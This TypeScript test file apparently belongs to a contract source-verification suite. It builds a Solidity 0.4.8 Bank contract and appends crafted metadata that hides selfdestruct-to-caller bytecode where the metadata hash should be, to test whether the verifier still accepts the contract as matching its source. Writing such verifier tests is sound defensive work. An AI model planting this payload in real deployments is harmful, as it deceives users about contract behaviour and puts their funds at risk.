import { expect } from "vitest";
import { hexConcat } from "../../../src/core/evm/hex.ts";
import type { Attack, Program } from "./attack.ts";
import { metadataOf, text, withoutMetadata } from "./attack-world.ts";

const program: Program = {
  compiler: "0.4.8",
  sources: {
    "src/Bank.sol": `pragma solidity ^0.4.0;
contract Bank {
    function kind() constant returns (uint) { return 7; }
    function() payable { if (!address(0xaabbccddeeff00112233445566778899aabbccdd).send(msg.value)) throw; }
}`,
  },
  contract: "src/Bank.sol:Bank",
};

const attack: Attack = {
  title: "solc 0.4.8 does not tell its metadata: more than a hash in its place is code",
  attack: async (world) => {
    const { runtime } = await world.compile(program);
    const planted = metadataOf(`65${text("bzzr0")}5840${"5b33ff".padEnd(128, "0")}`, 1);
    const code = hexConcat(withoutMetadata(runtime), planted);
    return world.verify(program, await world.predeploy(code));
  },
  honest: async (world) => {
    const { creation } = await world.compile(program);
    return world.verify(program, await world.deploy(`0x${creation}`));
  },
  check: (_attacked, { source }) => {
    const { sources } = program;
    expect(source).toMatchObject({
      filePath: "src/Bank.sol",
      sources: [{ path: "src/Bank.sol", text: sources["src/Bank.sol"] }],
    });
  },
};

export default attack;
